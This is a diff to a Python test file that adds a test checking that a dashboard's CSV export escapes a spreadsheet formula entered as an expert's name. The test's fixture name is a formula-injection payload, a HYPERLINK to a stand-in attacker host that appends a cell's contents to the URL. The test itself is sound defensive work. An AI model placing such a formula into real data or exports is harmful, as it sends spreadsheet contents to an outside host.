@@ -105,3 +105,11 @@ def test_exported_days_are_dates_a_spreadsheet_sorts_and_the_arabic_workbook_rea
     assert sheet.sheet_view.rightToLeft
     cells = dict(zip([cell.value for cell in sheet[1]], [cell.value for cell in sheet[2]], strict=True))
     assert cells["مُقدَّم"].date() == submitted  # a date cell, not words
+
+
+def test_the_overview_s_figures_hold_no_formula_from_a_person_s_name(factory, signed_in):
+    sly = factory.expert(name='=HYPERLINK("http://evil.example/?"&A2,"Open")')
+    factory.assign_lead(factory.case(), sly)
+    rows = _csv(signed_in(factory.manager()).get("/dashboard/figures.csv"))
+    named = [row for row in rows if "HYPERLINK" in row[1]]
+    assert named and all(row[1] == "'" + sly.name for row in named)
